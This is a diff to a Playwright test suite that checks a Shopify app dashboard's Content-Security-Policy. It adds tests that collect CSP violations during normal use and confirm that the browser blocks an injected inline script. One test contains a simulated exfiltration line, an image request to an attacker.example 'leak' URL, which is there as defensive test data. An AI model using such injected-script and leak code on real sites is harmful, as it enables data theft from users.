@@ -98,6 +98,53 @@ def test_dashboard_loads_without_console_errors(open_dashboard):
     assert log.errors == []
 
 
+# Reports every Content-Security-Policy violation of every document the page loads (the bounce page too) to
+# the test, through a binding the init script calls.
+REPORT_CSP_VIOLATIONS = """document.addEventListener("securitypolicyviolation", event => window.__cspViolation(
+  `${event.effectiveDirective} blocked ${event.blockedURI || "inline"} in ${location.pathname}`));"""
+# An image the policy refuses: reported after anything blocked before it, so once its report is in, all are.
+SENTINEL = "https://sentinel.invalid/after-everything.png"
+
+
+def watch_csp(violations: list):
+    """A `before_load` for open_dashboard that collects CSP violations into `violations`."""
+    def watch(page):
+        page.expose_function("__cspViolation", lambda report: violations.append(report))
+        page.add_init_script(REPORT_CSP_VIOLATIONS)
+    return watch
+
+
+def test_the_dev_page_works_under_its_content_security_policy_without_a_violation(open_dashboard, stack):
+    violations = []
+    page, log = open_dashboard(before_load=watch_csp(violations))
+    assert page.evaluate("window.shopify.config.devStandIn") is True  # through the bounce page and App Bridge
+    webhook_id = send_webhook(stack)
+    page.wait_for_selector(row(page, webhook_id, "succeeded"))
+    with page.expect_response(lambda r: r.url.endswith("/api/jobs") and r.request.method == "POST"):
+        page.click("#sync-products")  # a toast from the stand-in, a failed job row: DOM built at run time
+    page.wait_for_selector('#jobs-body tr[data-state="failed"]')
+    page.select_option("#state-filter", "failed")
+    page.evaluate("src => { new Image().src = src; }", SENTINEL)
+    wait_until(lambda: violations, what="the sentinel's report", pause=page_pause(page))
+    assert violations == [f"img-src blocked {SENTINEL} in /"]
+    assert [e for e in log.errors if "sentinel.invalid" not in e] == []
+
+
+def test_the_browser_refuses_a_script_injected_into_the_page(open_dashboard, stack):
+    violations = []
+    page, _log = open_dashboard(before_load=watch_csp(violations))
+    page.evaluate("""() => {
+        const script = document.createElement("script");
+        script.textContent = "window.__injected = true";
+        document.head.append(script);
+        const image = new Image();
+        image.src = "https://attacker.example/leak?data=1";
+    }""")
+    wait_until(lambda: len(violations) >= 2, what="the browser to report both violations", pause=page_pause(page))
+    assert page.evaluate("window.__injected") is None
+    assert sorted(v.split(" blocked ")[0] for v in violations) == ["img-src", "script-src-elem"]
+
+
 def test_signed_webhook_appears_as_a_row_and_turns_succeeded_without_reload(open_dashboard, stack):
     page, log = open_dashboard()
     webhook_id = send_webhook(stack)
@@ -105,7 +152,8 @@ def test_signed_webhook_appears_as_a_row_and_turns_succeeded_without_reload(open
     assert page.inner_text(row(page, webhook_id) + " .badge") == "Succeeded"
     assert "orders/create" in page.inner_text(row(page, webhook_id))
     assert page.evaluate("window.__sameDocument") is True
-    page.wait_for_function("document.getElementById('announcer').textContent.includes('succeeded')")
+    # A function, not a string: Playwright polls a string expression with eval, which the page's CSP refuses.
+    page.wait_for_function("() => document.getElementById('announcer').textContent.includes('succeeded')")
     assert log.errors == []
 
 
